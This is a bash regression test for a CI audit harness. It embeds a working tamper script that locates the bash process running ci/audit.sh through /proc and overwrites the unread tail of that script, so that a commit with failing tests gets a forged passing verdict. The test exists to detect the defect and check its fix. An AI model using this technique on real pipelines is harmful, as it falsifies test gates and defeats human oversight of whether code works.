#!/usr/bin/env bash
# Defect: the fan-out job the action runs (ci/audit.sh, mode only) is a bash script that bash reads as it goes,
#   from a file the re-run's own code (same user) can write: the action's folder. A DONE commit whose unit_test
#   command rewrites the rest of ci/audit.sh in place while `harness audit --rerun --only SHA --output FILE` runs
#   makes the job, after the audit wrote its honest "does not reproduce" verdict (exit 1), copy a forged verdict
#   over FILE and exit 0. `--output` (55bd229, F-0364) is defeated: the job's verdict and its exit both say
#   "reproduced", and the aggregate (with jobs: toJSON(needs)) passes a commit whose tests fail in CI.
#   Where: ci/audit.sh (its tail after `harness audit … --output "$out"` is read from disk only when reached).
# Correct: nothing the re-run does can change what the job does after the audit: audit.sh parsed whole before
#   anything runs (its body in a function / { …; exit; } block), so the job exits 1 with the audit's own verdict
#   and the aggregate refuses the commit.
# Exit 1 while the defect is present, 0 when fixed, 2 on setup failure.
here=$(cd "$(dirname "$0")/../.." && pwd); export PATH="$here/.venv/bin:$PATH"
export GIT_CONFIG_GLOBAL=/dev/null GIT_CONFIG_NOSYSTEM=1
export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@b GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@b
T=$(mktemp -d) || exit 2; trap 'rm -rf "$T"' EXIT
export HOME="$T/home"; mkdir -p "$HOME"; R="$T/repo"; mkdir "$R"; cd "$R" || exit 2
PY="$here"/.venv/bin/python
# The action's folder as the runner has it: a copy, writable by the job's user.
mkdir -p "$T/action/ci" && cp "${AUDIT_SH:-$here/ci/audit.sh}" "$T/action/ci/audit.sh" || exit 2
MARK="$T/tamper-on"; FORGED="$T/forged.json"
cat > tamper.py <<PYEOF
import os, sys
if not os.path.exists("$MARK"):
    sys.exit(0)                      # the developer's machine, and an honest job: the tests pass
pid = os.getppid()                   # find the bash running ci/audit.sh above this re-run
while pid > 1:
    argv = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
    if any(a.endswith(b"ci/audit.sh") for a in argv):
        break
    pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
else:
    sys.exit(1)
script = os.readlink(f"/proc/{pid}/fd/255")
pos = int(open(f"/proc/{pid}/fdinfo/255").read().split()[1])   # where bash reads its next command
with open(script, "r+b") as fh:      # in place: bash reads the rest from this same file
    fh.seek(pos)
    fh.write(b'cat "$FORGED" > "\$out"; exit 0\n')
    fh.truncate()
sys.exit(1)                          # the commit's tests fail on CI
PYEOF
printf '__pycache__/\nharness-*.json\n' > .gitignore
( git init -q -b main && harness init && $PY - <<'PYEOF'
import yaml
p = ".harness/config.yaml"; d = yaml.safe_load(open(p))
d["evidence"] = {"build": {"command": [__import__("sys").executable, "-c", "pass"]},
                 "unit_test": {"command": [__import__("sys").executable, "tamper.py"]}}
yaml.safe_dump(d, open(p, "w"), sort_keys=False)
PYEOF
) >/dev/null 2>&1 || exit 2
( rm .harness/gate.yaml && harness init && harness install && git add -A && git commit -qm "harness, commands" ) >/dev/null 2>&1 || exit 2
BASE=$(git rev-parse HEAD)
( harness task new Work && harness requirement add "It works" --priority must \
  && for s in SPECIFYING PLANNED IMPLEMENTING VERIFYING; do harness transition $s || exit 1; done \
  && harness evidence build && harness evidence unit_test \
  && harness requirement set REQ-001 --status verified --evidence unit_test \
  && harness transition REVIEWING && harness transition GATING && harness gate --advance && harness transition DONE \
  && git add -A && git commit -qm done ) >"$T/setup.log" 2>&1 || { cat "$T/setup.log"; exit 2; }
DONE=$(git rev-parse HEAD)
job() { HARNESS_EVENT=push HARNESS_BEFORE=$BASE HARNESS_AFTER=$DONE HARNESS_REMOTE=nowhere "$@" \
        bash "$T/action/ci/audit.sh"; }
mkdir -p "$T/v" || exit 2
job env HARNESS_MODE=plan HARNESS_OUT="$T/v/harness-plan.json" 2>"$T/plan.err" || { cat "$T/plan.err"; exit 2; }
# The forger's verdict: this job's own when the tests pass (any copy of one will do).
job env HARNESS_MODE=only HARNESS_COMMIT=$DONE HARNESS_OUT="$T/honest.json" 2>"$T/honest.err" || { cat "$T/honest.err"; exit 2; }
cp "$T/honest.json" "$FORGED"; cp "${AUDIT_SH:-$here/ci/audit.sh}" "$T/action/ci/audit.sh"
# Control: the honest verdict aggregates to a pass.
cp "$T/honest.json" "$T/v/honest.json"
job env HARNESS_MODE=aggregate HARNESS_VERDICTS="$T/v" HARNESS_JOBS='{"rerun":{"result":"success"}}' 2>"$T/agg0.err" \
  || { echo "setup: the honest fan-out does not pass"; cat "$T/agg0.err"; exit 2; }
rm "$T/v/honest.json"
# The attack: the commit's tests fail on CI, and its re-run rewrites the job's script.
touch "$MARK"
rc=0; job env HARNESS_MODE=only HARNESS_COMMIT=$DONE HARNESS_OUT="$T/v/harness-verdict.json" 2>"$T/job.err" || rc=$?
grep -q "does not reproduce" "$T/job.err" || { echo "setup: the re-run did not fail as planned"; tail -5 "$T/job.err"; exit 2; }
echo "the audit said: $(grep -m1 'does not reproduce' "$T/job.err" | cut -c1-150)"
echo "the job exited $rc"
arc=0; job env HARNESS_MODE=aggregate HARNESS_VERDICTS="$T/v" HARNESS_JOBS='{"rerun":{"result":"'$([ $rc -eq 0 ] && echo success || echo failure)'"}}' 2>"$T/agg.err" || arc=$?
echo "the aggregate exited $arc: $(tail -1 "$T/agg.err")"
if [ "$rc" -eq 0 ] && [ "$arc" -eq 0 ]; then
  echo "DEFECT: a commit whose tests fail in the job was passed: its re-run rewrote ci/audit.sh's tail in place"
  exit 1
fi
echo "OK: the job's failure reached the aggregate"; exit 0
